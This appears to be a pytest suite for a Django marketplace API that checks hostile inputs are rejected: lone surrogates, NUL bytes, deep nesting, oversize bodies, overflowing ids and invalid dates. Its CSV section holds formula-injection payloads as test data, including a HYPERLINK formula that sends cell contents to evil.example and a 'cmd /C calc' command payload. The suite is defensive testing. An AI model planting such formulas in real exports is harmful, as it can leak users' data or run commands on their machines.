"""Input hardening (issue 18, issue 11 item 9): every hostile input is a clear 4xx in the error shape and stores nothing.

Written as the attacker would try it: raw JSON bodies with escapes the
standard library happily decodes (lone surrogates, NUL, NaN), bodies nested a
hundred thousand deep, oversize and many-field requests, digits from other
scripts, ids that overflow, dates that do not exist, spreadsheet formulas.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.db import connection
from django.test import Client
from rest_framework.test import APIClient

from coop import parsers, validation
from coop.errors import ApplicationError
from coop.exports import csv_safe
from marketplace.ledger.models import LedgerTransaction
from marketplace.models import Answer, Assignment, Project, Task
from marketplace.services import claiming, importing, projects, submission
from tests import factories

pytestmark = pytest.mark.django_db

SURROGATE = "\udc00"
JSONL = "application/x-ndjson"


def _as(user) -> APIClient:
    api = APIClient()
    api.force_authenticate(user)
    return api


def _raw(api, method: str, url: str, body: str | bytes, content_type: str = "application/json"):
    """Send a body exactly as written (the test client's JSON encoder would refuse a lone surrogate itself)."""
    return api.generic(method, url, body, content_type=content_type)


def _error(response, status: int) -> dict:
    assert response.status_code == status, (response.status_code, response.content[:500])
    assert response["Content-Type"].startswith("application/json"), response["Content-Type"]
    body = response.json()
    assert set(body["error"]) >= {"code", "message", "fields"}, body
    return body["error"]


def _draft(organization, task_type="classification", **fields):
    if task_type == "classification":
        fields.setdefault("choices", ["positive", "negative"])
    return factories.make_project(organization, task_type=task_type, tasks=0, publish=False, **fields)


# --- 1. The poison task ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line, where",
    [
        (r'{"external_id":"s","data":{"text":"\udc00"}}', "data.text"),
        (r'{"external_id":"\udc00","data":{"text":"fine"}}', "external_id"),
        (r'{"external_id":"s","data":{"text":"a\u0000b"}}', "data.text"),
        (r'{"external_id":"a\u0000","data":{"text":"fine"}}', "external_id"),
        (r'{"external_id":"s","data":{"text":"ok"},"gold":{"choice":"\ud800"}}', "gold.choice"),
        (r'{"external_id":"s","data":{"text":"ok","\udc00":1}}', "data"),
    ],
)
def test_adversarial_poison_rows_are_refused_at_import(org_api, organization, line, where):
    project = _draft(organization)
    good = json.dumps({"external_id": "good", "data": {"text": "fine"}})
    response = _raw(org_api, "POST", f"/api/v1/projects/{project.pk}/tasks/", f"{good}\n{line}\n", JSONL)
    error = _error(response, 422)
    assert error["code"] == "invalid_tasks"
    assert [row["line"] for row in error["rows"]] == [2]
    assert where in error["rows"][0]["message"]
    assert "surrogate" in error["rows"][0]["message"] or "NUL" in error["rows"][0]["message"]
    assert not Task.objects.filter(project=project).exists()


def test_adversarial_poison_rows_are_refused_in_a_json_import_too(org_api, organization):
    project = _draft(organization, task_type="pairwise")
    body = r'{"tasks": [{"external_id": "p", "data": {"prompt": "\udfff", "response_a": "A", "response_b": "B"}}]}'
    error = _error(_raw(org_api, "POST", f"/api/v1/projects/{project.pk}/tasks/", body), 422)
    assert error["code"] == "malformed_json" and "surrogate" in error["message"]
    nul = body.replace("\\udfff", "\\u0000")
    error = _error(_raw(org_api, "POST", f"/api/v1/projects/{project.pk}/tasks/", nul), 422)
    assert error["rows"][0]["line"] == 1 and "data.prompt" in error["rows"][0]["message"]
    assert not Task.objects.filter(project=project).exists()


def test_adversarial_the_poison_task_never_reaches_a_member(organization, member):
    """The issue's sequence: import the row, publish, claim. The import refuses it, so work/next stays healthy."""
    project = _draft(organization)
    with pytest.raises(ApplicationError) as refused:
        importing.tasks_import(project=project, rows=importing.iter_jsonl_rows(iter([b'{"external_id":"s","data":{"text":"\\udc00"}}\n'])))
    assert refused.value.code == "invalid_tasks"
    importing.tasks_import(project=project, rows=enumerate([{"external_id": "ok", "data": {"text": "fine"}}], start=1))
    factories.make_active_dua(organization)
    factories.fund_project(project)
    projects.project_publish(project=project)
    response = _as(member).post("/api/v1/work/next/", {"project": project.pk}, format="json")
    assert response.status_code == 200 and response.json()["task"]["data"] == {"text": "fine"}


def test_adversarial_a_task_stored_before_the_fix_is_released_not_a_500_for_every_claim(organization, member):
    if connection.vendor == "postgresql":
        pytest.skip("PostgreSQL cannot store a lone surrogate at all; only SQLite databases can hold such a task")
    project = factories.make_project(organization, task_type="classification", tasks=2)
    poisoned = Task.objects.filter(project=project).order_by("pk").first()
    Task.objects.filter(pk=poisoned.pk).update(data={"text": SURROGATE})  # as the old importer stored it
    api = _as(member)
    response = api.post("/api/v1/work/next/", {"project": project.pk}, format="json")
    assert response.status_code == 200, response.content
    assert response.json()["task"]["id"] != poisoned.pk
    # The poisoned task's lease was given straight back, and this member will not be handed it again.
    assert Assignment.objects.get(task=poisoned, worker=member).state == Assignment.State.RELEASED
    assert Assignment.objects.filter(worker=member, state=Assignment.State.LEASED).count() == 1


# --- 2. Oversize and many-field requests -------------------------------------------------------------------------------


def test_adversarial_an_oversize_json_body_is_a_413(org_api, member, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1024
    padding = "x" * 4096
    error = _error(_raw(org_api, "POST", "/api/v1/projects/", json.dumps({"title": padding})), 413)
    assert error["code"] == "too_large"
    error = _error(_raw(_as(member), "POST", "/api/v1/work/next/", json.dumps({"project": 1, "pad": padding})), 413)
    assert not Project.objects.exists()


def test_adversarial_too_many_form_fields_is_a_400(org_api):
    fields = {f"f{i}": "1" for i in range(1100)}
    error = _error(org_api.post("/api/v1/projects/", fields, format="multipart"), 400)
    assert error["code"] == "too_many_fields"
    error = _error(org_api.post("/api/v1/projects/", fields), 400)  # urlencoded too
    assert not Project.objects.exists()


def test_adversarial_too_many_fields_outside_the_api_is_a_400_not_a_500(member):
    client = Client()
    client.force_login(member)
    response = client.post("/membership/profile/", {f"f{i}": "1" for i in range(1100)})
    assert response.status_code == 400


def test_the_documented_predict_limit_is_reachable_over_json(organization):
    """A JSON body above DATA_UPLOAD_MAX_MEMORY_SIZE (2.5 MB) still reaches the predict API (no model here: 404)."""
    import base64
    import os

    from PIL import Image

    buffer = io.BytesIO()
    Image.frombytes("L", (1200, 1200), os.urandom(1200 * 1200)).save(buffer, format="PNG")  # ~1.4 MB of noise
    image = base64.b64encode(buffer.getvalue()).decode()
    body = json.dumps({"images": [image, image]})
    assert len(body) > 2.5 * 1024 * 1024
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {factories.org_token(organization)}")
    error = _error(_raw(api, "POST", "/api/v1/ocr/predict/", body), 404)
    assert error["code"] == "no_promoted_model"


def test_the_documented_predict_limit_is_reachable_over_multipart(organization, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from PIL import Image

    image = io.BytesIO()
    Image.new("L", (8, 8)).save(image, format="PNG")
    files = [SimpleUploadedFile(f"{i}.png", image.getvalue(), content_type="image/png") for i in range(settings.OCR_PREDICT_MAX_IMAGES)]
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {factories.org_token(organization)}")
    error = _error(api.post("/api/v1/ocr/predict/", {"images": files}, format="multipart"), 404)
    assert error["code"] == "no_promoted_model"  # every image was read and checked; only the missing model refused it


def test_adversarial_an_oversize_form_outside_the_api_is_a_413_not_a_500(member, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1024
    client = Client()
    client.force_login(member)
    assert client.post("/membership/profile/", {"display_name": "x" * 5000}).status_code == 413


def test_adversarial_a_predict_body_above_its_own_limit_is_a_413(organization, settings):
    settings.OCR_PREDICT_MAX_IMAGES, settings.OCR_PREDICT_MAX_IMAGE_BYTES = 1, 100
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {factories.org_token(organization)}")
    error = _error(_raw(api, "POST", "/api/v1/ocr/predict/", json.dumps({"images": ["A" * 200_000]})), 413)
    assert error["code"] == "too_large"


# --- 3 and 4. Nesting, NaN, the OCR hint ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body, code",
    [
        ("[" * 100_000, "too_deep"),
        ('{"title": ' + "[" * 5000 + "]" * 5000 + "}", "too_deep"),
        ('{"title": NaN}', "parse_error"),
        ('{"title": "t", "pay_per_task": Infinity}', "parse_error"),
        ('{"title": "t", "estimated_seconds": 1e999}', "invalid_number"),
        ('{"title": "\\udc00"}', "invalid_text"),
        ('{"title": "a\\u0000"}', "invalid_text"),
        ('{"x": 1' + "0" * 5000 + "}", "parse_error"),
        (b'{"title": "\xff"}', "parse_error"),
    ],
)
def test_adversarial_hostile_json_bodies_are_a_400(org_api, body, code):
    error = _error(_raw(org_api, "POST", "/api/v1/projects/", body), 400)
    assert error["code"] == code
    assert not Project.objects.exists()


@pytest.mark.parametrize(
    "data, message",
    [
        ('{"image": "%s", "hint": ' + "[" * 5000 + "]" * 5000 + "}", "nested"),
        ('{"image": "%s", "hint": NaN}', "NaN"),
        ('{"image": "%s", "hint": {"a": 1}}', "data.hint"),
        ('{"image": "%s", "hint": "' + "h" * 1001 + '"}', "data.hint"),
        ('{"image": "%s", "hint": "\\u0000"}', "NUL"),
        ('{"image": "%s", "hint": 1e999}', "finite"),
    ],
)
def test_adversarial_ocr_hints_must_be_short_plain_text(org_api, organization, data, message):
    project = _draft(organization, task_type="ocr")
    line = '{"external_id": "h", "data": ' + data % factories.png_base64("x") + "}"
    error = _error(_raw(org_api, "POST", f"/api/v1/projects/{project.pk}/tasks/", line + "\n", JSONL), 422)
    assert message.lower() in error["rows"][0]["message"].lower()
    assert not Task.objects.filter(project=project).exists()


def test_an_ocr_hint_that_is_short_text_imports(org_api, organization):
    project = _draft(organization, task_type="ocr")
    row = {"external_id": "h", "data": {"image": factories.png_base64("x"), "hint": "digits only"}}
    response = _raw(org_api, "POST", f"/api/v1/projects/{project.pk}/tasks/", json.dumps(row) + "\n", JSONL)
    assert response.status_code == 201, response.content
    assert Task.objects.get(project=project).data == {"hint": "digits only"}


def test_the_parser_bounds_depth_without_recursing():
    assert parsers.loads("[" * 31 + "]" * 31)
    with pytest.raises(ApplicationError) as deep:
        parsers.loads("[" * 40 + "]" * 40)
    assert deep.value.code == "too_deep" and deep.value.status == 400
    assert validation.json_problem([[[[1]]]], max_depth=3)[1].startswith("Nested")


# --- 5. Answers ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["a\\u0000b", "\\udc00", "ok\\ud83d"])
def test_adversarial_an_ocr_answer_with_nul_or_a_lone_surrogate_is_a_400_at_submit(organization, member, text):
    factories.make_project(organization, task_type="ocr", tasks=1)
    api = _as(member)
    lease = api.post("/api/v1/work/next/", {}, format="json").json()["assignment"]["id"]
    response = api.generic(
        "POST", f"/api/v1/work/assignments/{lease}/submit/", '{"answer": {"text": "%s"}}' % text,
        content_type="application/json", HTTP_IDEMPOTENCY_KEY="k1",
    )
    assert _error(response, 400)["code"] == "invalid_text"
    assert not Answer.objects.exists()
    assert Assignment.objects.get(pk=lease).state == Assignment.State.LEASED  # still the member's to answer


def test_adversarial_the_submit_service_refuses_unstorable_text_whatever_the_caller(organization, member):
    project = factories.make_project(organization, task_type="pairwise", tasks=1)
    lease = claiming.work_next(worker=member, project=project).assignment
    for payload in ({"preferred": "a", "reason": "a\x00"}, {"preferred": "b", "reason": SURROGATE}):
        with pytest.raises(ApplicationError) as refused:
            submission.assignment_submit(worker=member, assignment_id=lease.pk, payload=payload, idempotency_key="k")
        assert refused.value.status == 400 and refused.value.code == "invalid_text"
    assert not Answer.objects.exists()


# --- 6. Ids and path keys -----------------------------------------------------------------------------------------


def test_adversarial_a_superscript_digit_organization_key_is_a_404(steward):
    response = _as(steward).post("/api/v1/organizations/%C2%B2/deposits/", {"amount": "1", "reference": "R"}, format="json")
    assert _error(response, 404)["code"] == "not_found"
    huge = _as(steward).post(f"/api/v1/organizations/{10**30}/deposits/", {"amount": "1", "reference": "R"}, format="json")
    assert _error(huge, 404)["code"] == "not_found"
    assert not LedgerTransaction.objects.exists()


@pytest.mark.parametrize("assignment", [10**30, 2**63, 2**63 - 1, 0])
def test_adversarial_an_assignment_id_no_key_can_hold_is_a_404(member, assignment):
    submit = _as(member).post(f"/api/v1/work/assignments/{assignment}/submit/", {"answer": {"text": "1"}}, format="json",
                              HTTP_IDEMPOTENCY_KEY="k")
    assert _error(submit, 404)["code"] == "not_found"
    assert _error(_as(member).post(f"/api/v1/work/assignments/{assignment}/heartbeat/", {}, format="json"), 404)["code"] == "not_found"


@pytest.mark.parametrize("ids", [[10**20], [2**63], [0], [-1], [1, 10**19]])
def test_adversarial_id_lists_are_bounded(member, steward, ids):
    assert _error(_as(member).post("/api/v1/notifications/read/", {"ids": ids}, format="json"), 400)["fields"]
    runs = _as(steward).post("/api/v1/mlops/runs/", {"model_name": "m", "projects": ids}, format="json")
    assert _error(runs, 400)["code"] == "invalid"
    assert _error(_as(steward).post("/api/v1/mlops/runs/", {"model_name": "m", "snapshot": ids[-1]}, format="json"), 400)
    assert _error(_as(member).post("/api/v1/work/next/", {"project": ids[-1]}, format="json"), 400)


def test_adversarial_a_nul_in_the_url_is_a_400_not_a_database_error(steward, member):
    response = _as(steward).post("/api/v1/organizations/a%00b/deposits/", {"amount": "1", "reference": "R"}, format="json")
    assert _error(response, 400)["code"] == "bad_request"
    assert _error(_as(member).get("/api/v1/work/records/?format=%00"), 400)
    assert _error(_as(member).get("/api/v1/notifications/?unread=1%00"), 400)


# --- 7. Unknown API paths ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("method", ["get", "post", "put", "patch", "delete"])
@pytest.mark.parametrize("path", ["/api/v1/nothing-here/", "/api/v1/projects/abc/", "/api/v1/work/assignments/1.5/submit/", "/api/v2/"])
def test_adversarial_unknown_api_paths_answer_a_json_404_not_a_csrf_page(member, method, path):
    client = Client(enforce_csrf_checks=True)
    client.force_login(member)  # a session cookie is what makes Django's CSRF page appear
    assert _error(getattr(client, method)(path), 404)["code"] == "not_found"


# --- 8. CSV formula injection ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, shown",
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5000", "-0.5000"),
        ("plain = text", "plain = text"),
        (-3, -3),
    ],
)
def test_csv_cells_are_neutralised(value, shown):
    assert csv_safe(value) == shown


def test_adversarial_a_client_title_formula_reaches_members_csv_as_text(member):
    organization = factories.make_organization("Formula Corp")
    title = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for bonus")'
    project = factories.make_project(organization, task_type="classification", tasks=1, title=title)
    claiming.work_next(worker=member, project=project)
    response = _as(member).get("/api/v1/work/records/?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["project"] == "'" + title


# --- 9. Deposits, money parsing, other clients' drafts ---------------------------------------------------------------


@pytest.mark.parametrize(
    "body, field",
    [
        ({"amount": "10.00", "reference": "R", "currency": "EUR"}, "currency"),
        ({"amount": "10.00", "reference": "R", "currency": "XXX"}, "currency"),
        ({"amount": "١٢", "reference": "R"}, "amount"),
        ({"amount": "１２.５", "reference": "R"}, "amount"),
        ({"amount": "1٫5", "reference": "R"}, "amount"),
    ],
)
def test_adversarial_deposits_take_only_supported_currencies_and_ascii_digits(organization, steward, body, field):
    response = _as(steward).post(f"/api/v1/organizations/{organization.slug}/deposits/", body, format="json")
    assert field in _error(response, 400)["fields"]
    assert not LedgerTransaction.objects.exists()


def test_adversarial_the_deposit_service_refuses_an_unsupported_currency(organization, steward):
    from decimal import Decimal

    from marketplace.ledger.services import deposit_record

    with pytest.raises(ApplicationError) as refused:
        deposit_record(organization=organization, amount=Decimal("5"), reference="R", recorded_by=steward, currency="EUR")
    assert refused.value.code == "unsupported_currency"
    assert not LedgerTransaction.objects.exists()


def test_adversarial_work_next_on_another_clients_draft_answers_as_for_no_project(member):
    draft = _draft(factories.make_organization("Secret Launch"))
    api = _as(member)
    secret = api.post("/api/v1/work/next/", {"project": draft.pk}, format="json")
    missing = api.post("/api/v1/work/next/", {"project": draft.pk + 1000}, format="json")
    assert (secret.status_code, secret.json()) == (missing.status_code, missing.json())
    assert secret.status_code == 404 and "X-Coop-Reason" not in secret


# --- 10. Dates ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["2026-02-30", "2026-13-01", "9999-12-31", "0001-01-01", "2026-1-1x"])
def test_adversarial_invalid_dates_are_a_400_on_records_and_statements(member, value):
    api = _as(member)
    for url in ("/api/v1/work/records/", "/api/v1/work/earnings/statement/"):
        for key in ("from", "to"):
            assert key in _error(api.get(url, {key: value}), 400)["fields"]


@pytest.mark.parametrize("value", ["2026-02-30", "9999-12-31"])
def test_adversarial_invalid_dates_on_the_portal_pages_are_a_message_not_a_500(member, value):
    client = Client()
    client.force_login(member)
    for url in ("/work/records/", "/work/earnings/"):
        response = client.get(url, {"from": value}, follow=True)
        assert response.status_code == 200
        assert any("date" in str(m) for m in response.context["messages"])


@pytest.mark.parametrize("value", ["2026-02-30T00:00:00Z", "2026-01-01T25:00:00Z", "0001-01-01T00:00:00+05:00", "soon"])
def test_adversarial_results_since_must_be_a_real_datetime(org_api, organization, value):
    project = factories.make_project(organization, task_type="classification", tasks=1)
    response = org_api.get(f"/api/v1/projects/{project.pk}/results/", {"since": value, "purpose": "model_training"})
    assert "since" in _error(response, 400)["fields"]


# --- 11. Unknown fields and floats on create --------------------------------------------------------------------------


def _project_body(**overrides) -> dict:
    body = {"title": "T", "instructions": "I", "task_type": "classification", "choices": ["a", "b"],
            "pay_per_task": "0.10", "estimated_seconds": 10}
    return body | overrides


def test_adversarial_a_misspelt_field_on_create_is_refused_not_dropped(org_api):
    body = _project_body(pay_per_tsak="0.50")
    error = _error(org_api.post("/api/v1/projects/", body, format="json"), 400)
    assert error["fields"] == {"pay_per_tsak": ["Unknown field."]}
    assert not Project.objects.exists()


def test_adversarial_unknown_fields_are_refused_on_every_create_that_moves_money_or_power(organization, member, steward):
    deposit = _as(steward).post(
        f"/api/v1/organizations/{organization.slug}/deposits/", {"amount": "5", "reference": "R", "currencyy": "EUR"}, format="json"
    )
    assert _error(deposit, 400)["fields"] == {"currencyy": ["Unknown field."]}
    payout = _as(member).post("/api/v1/work/payouts/", {"amount": "5", "worker": steward.pk}, format="json")
    assert "worker" in _error(payout, 400)["fields"]
    token = _as(member).post("/api/v1/tokens/", {"name": "t", "organization": organization.pk}, format="json")
    assert "organization" in _error(token, 400)["fields"]
    run = _as(steward).post("/api/v1/mlops/runs/", {"model_name": "m", "projcts": [1]}, format="json")
    assert "projcts" in _error(run, 400)["fields"]
    assert not LedgerTransaction.objects.exists()


@pytest.mark.parametrize("pay", [0.1, 0.30000000000000004, 1.5, "٠.١٠", "０.１０"])
def test_adversarial_pay_is_never_a_float_or_foreign_digits(org_api, pay):
    error = _error(org_api.post("/api/v1/projects/", _project_body(pay_per_task=pay), format="json"), 400)
    assert "pay_per_task" in error["fields"]
    assert not Project.objects.exists()


def test_a_whole_json_number_or_a_string_is_a_fine_pay(org_api):
    assert org_api.post("/api/v1/projects/", _project_body(pay_per_task="0.10"), format="json").status_code == 201
    assert org_api.post("/api/v1/projects/", _project_body(pay_per_task=1), format="json").status_code == 201


def test_adversarial_titles_and_instructions_refuse_nul_and_lone_surrogates_even_from_forms(org_api):
    for field in ("title", "instructions"):
        error = _error(org_api.post("/api/v1/projects/", _project_body(**{field: "a\x00b"})), 400)  # urlencoded
        assert field in error["fields"]
    with pytest.raises(Exception) as refused:
        validation.text_validator("x" + SURROGATE)
    assert "surrogate" in str(refused.value)
    assert not Project.objects.exists()


# --- Parallel deposit replays (issue 11 item 9) ------------------------------------------------------------------------


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_adversarial_parallel_deposits_with_one_reference_give_one_201(pg_only):
    import threading

    organization = factories.make_organization("Parallel Payer")
    steward = factories.make_steward("parallel-steward@example.org")
    barrier = threading.Barrier(8)
    statuses: list[int] = []

    def record():
        try:
            barrier.wait(timeout=30)
            response = _as(steward).post(
                f"/api/v1/organizations/{organization.slug}/deposits/", {"amount": "40.00", "reference": "WIRE-9"}, format="json"
            )
            statuses.append(response.status_code)
        finally:
            connection.close()

    threads = [threading.Thread(target=record) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(statuses) == [200] * 7 + [201]
    assert LedgerTransaction.objects.filter(kind="deposit").count() == 1
